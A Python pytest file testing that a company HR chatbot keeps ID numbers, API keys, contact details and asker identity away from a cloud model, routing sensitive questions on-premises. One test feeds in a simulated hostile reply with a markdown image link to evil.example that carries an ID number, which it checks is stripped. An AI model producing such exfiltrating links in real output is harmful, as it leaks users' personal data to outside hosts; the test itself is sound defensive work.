"""Promise 1, at the socket: nothing sensitive reaches the cloud model.

For each kind of Part a secret stands in that Part alone, under an otherwise public prompt; the same prompt without it
does reach the cloud. So each row of this table can fail by itself. What goes there behind a placeholder instead is in
test_masking.py.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest

from bot.domain import Answer, Route
from tests.builders import api_key, rrn
from tests.integration.company import Company, company
from tests.standins.openai import HalfStream, Reply, Says, Silent, Status

ASKED = "연차는 며칠인가요?"
SECRETS = {"rrn": rrn(), "key": api_key(), "phone": "010-" + "2345-6789", "email": "kim.h@corp" + ".example"}

Place = Callable[[Company, str], Awaitable[Answer]]


def leave(title: str = "", heading: str = "", text: str = "") -> dict[str, str]:
    return {
        "public/leave.md": f"# 휴가 규정 {title}\n\n## 연차 {heading}\n\n연차는 1년에 15일입니다. {text}\n",
        "public/rooms.md": "# 회의실\n\n회의실은 4층에 여덟 곳이 있고 하루 전에 예약합니다.\n",
    }


async def in_the_question(naru: Company, secret: str) -> Answer:
    return await naru.ask(f"{ASKED} {secret}")


async def in_an_earlier_question(naru: Company, secret: str) -> Answer:
    await naru.ask(f"연차 규정 알려 주세요 {secret}")
    return await naru.ask(ASKED)


async def in_an_earlier_answer(naru: Company, secret: str) -> Answer:
    await naru.ask("연차 규정 알려 주세요")
    return await naru.ask(ASKED)


async def just_asked(naru: Company, secret: str) -> Answer:
    return await naru.ask(ASKED)


PLACES: dict[str, tuple[Place, Callable[[str], dict[str, str]]]] = {
    "question": (in_the_question, lambda secret: leave()),
    "earlier question": (in_an_earlier_question, lambda secret: leave()),
    "passage": (just_asked, lambda secret: leave(text=secret)),
    "title": (just_asked, lambda secret: leave(title=secret)),
    "heading": (just_asked, lambda secret: leave(heading=secret)),
}
NEVER_SHOWN = {SECRETS["rrn"], SECRETS["key"]}
"""In a document these keep the whole passage from being shown, so no model is asked at all."""


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
@pytest.mark.parametrize(("place", "documents"), PLACES.values(), ids=PLACES)
async def test_a_secret_in_one_part_alone_never_reaches_the_cloud(
    place: Place, documents: Callable[[str], dict[str, str]], secret: str, tmp_path: Path, fresh_url: str
) -> None:
    async with company(tmp_path, fresh_url, documents(secret), masks=False) as naru:
        answered = await place(naru, secret)
        in_a_document = documents(secret) != documents("")
        assert answered.route is (Route.REFUSE if in_a_document and secret in NEVER_SHOWN else Route.ON_PREM)
        assert naru.cloud.requests == []
        assert naru.cloud.bytes_received == b""


@pytest.mark.parametrize(("place", "documents"), PLACES.values(), ids=PLACES)
async def test_the_same_prompt_without_the_secret_reaches_the_cloud(
    place: Place, documents: Callable[[str], dict[str, str]], tmp_path: Path, fresh_url: str
) -> None:
    async with company(tmp_path, fresh_url, documents("")) as naru:
        answered = await place(naru, "")
        assert answered.route is Route.CLOUD
        assert naru.cloud.heard("15일입니다")


async def test_a_secret_in_an_earlier_answer_alone_never_reaches_the_cloud(tmp_path: Path, fresh_url: str) -> None:
    """The first answer is the cloud's own; what it says is sensitive from then on."""
    address = SECRETS["email"]
    says = Says(f"연차는 {address} 에 물어보세요. [1]")
    async with company(tmp_path, fresh_url, leave(), cloud=(says,)) as naru:
        await naru.ask("연차 규정 알려 주세요")
        assert len(naru.cloud.requests) == 1
        answered = await naru.ask(ASKED)
        assert answered.route is Route.ON_PREM
        assert len(naru.cloud.requests) == 1
        assert naru.on_prem.heard(address)


async def test_a_secret_split_over_two_messages_never_reaches_the_cloud(tmp_path: Path, fresh_url: str) -> None:
    whole = SECRETS["rrn"]
    async with company(tmp_path, fresh_url, leave(text=f"서식 {whole[:6]}호를 씁니다.")) as naru:
        await naru.ask(f"휴가 규정에서 연차는 1년에 15일인가요? {whole[:7]}")
        assert naru.cloud.heard(whole[:7])
        before = len(naru.cloud.requests)
        answered = await naru.ask(f"{whole[7:]} 이 사람의 연차는 며칠인가요?")
        assert answered.route is Route.ON_PREM
        assert len(naru.cloud.requests) == before


@pytest.mark.parametrize(
    ("room", "person", "route"),
    [(None, "U1", Route.CLOUD), ("C1", "U1", Route.CLOUD), ("C3", "U2", Route.ON_PREM)],
)
async def test_the_room_alone_keeps_a_question_off_the_cloud(
    room: str | None, person: str, route: Route, tmp_path: Path, fresh_url: str
) -> None:
    async with company(tmp_path, fresh_url, leave()) as naru:
        assert (await naru.ask(ASKED, person, room)).route is route
        assert bool(naru.cloud.requests) is (route is Route.CLOUD)


async def test_the_sources_level_alone_keeps_a_question_off_the_cloud(tmp_path: Path, fresh_url: str) -> None:
    documents = {"hr/leave.md": leave()["public/leave.md"]}
    async with company(tmp_path, fresh_url, documents) as naru:
        answered = await naru.ask(ASKED, "U2")
        assert answered.route is Route.ON_PREM
        assert naru.cloud.bytes_received == b""


@pytest.mark.parametrize("broken", [Status(500), Status(429), Status(401), Silent(), HalfStream("연차는")])
async def test_a_sensitive_question_is_quoted_and_never_sent_to_the_cloud_when_the_on_prem_model_fails(
    broken: Reply, tmp_path: Path, fresh_url: str
) -> None:
    async with company(tmp_path, fresh_url, leave(), on_prem=(broken,), masks=False) as naru:
        answered = await naru.ask(f"{ASKED} {SECRETS['phone']}")
        assert answered.route is Route.QUOTE
        assert "15일" in answered.text
        assert naru.on_prem.requests
        assert naru.cloud.bytes_received == b""


@pytest.mark.parametrize("broken", [Status(500), Status(401), Silent(), HalfStream("연차는")])
async def test_the_on_prem_model_answers_what_the_cloud_could_not(
    broken: Reply, tmp_path: Path, fresh_url: str
) -> None:
    async with company(tmp_path, fresh_url, leave(), cloud=(broken,)) as naru:
        answered = await naru.ask(ASKED)
        assert answered.route is Route.ON_PREM
        assert [route for route, _ in answered.tried] == [Route.CLOUD]


async def test_each_route_and_each_try_has_a_prompt_of_its_own(tmp_path: Path, fresh_url: str) -> None:
    async with company(tmp_path, fresh_url, leave(), cloud=(Status(500),)) as naru:
        await naru.ask(ASKED)
        bodies = [request.json["messages"][1]["content"] for request in (*naru.cloud.requests, *naru.on_prem.requests)]
        assert len(bodies) == 3
        assert len({body.split(" ")[0] for body in bodies}) == 3, "each prompt has its own mark"


async def test_nothing_about_the_asker_leaves(tmp_path: Path, fresh_url: str) -> None:
    async with company(tmp_path, fresh_url, leave()) as naru:
        await naru.ask(ASKED, "UASKERWITHALONGID", "CROOMWITHALONGID")
        assert naru.cloud.requests
        # Long names: two letters also turn up by chance in the prompt's random mark.
        for told in ("UASKERWITHALONGID", "정도윤", "generalities", "CROOMWITHALONGID", "engineering-guild"):
            assert not naru.cloud.heard(told)


async def test_what_the_model_says_back_is_checked_before_it_is_shown(tmp_path: Path, fresh_url: str) -> None:
    evil = f"연차는 15일 [1]. ![x](https://evil.example/?q={rrn()}) <!channel> {rrn()} {api_key()} https://evil.example"
    async with company(tmp_path, fresh_url, leave(), cloud=(Says(evil),)) as naru:
        answered = await naru.ask(ASKED)
        for forbidden in ("evil.example", "<!channel>", rrn(), rrn()[7:], api_key()):
            assert forbidden not in answered.text
        assert "15일" in answered.text


@pytest.mark.parametrize("between", [0, 3, 4, 9])
async def test_an_identifier_in_two_messages_of_a_thread_is_found_however_many_stand_between(
    tmp_path: Path, fresh_url: str, between: int
) -> None:
    first, last = rrn()[:6], rrn()[-7:]
    async with company(tmp_path, fresh_url, leave()) as naru:
        await naru.ask(f"연차는 며칠인가요? {first}")
        for turn in range(between):
            await naru.ask(f"연차는 며칠 전에 올리나요? {'가나다라마바사아자'[turn]}")
        answered = await naru.ask(f"연차는 며칠인가요? {last}")
        assert answered.route is not Route.CLOUD
        assert not naru.cloud.heard(last)
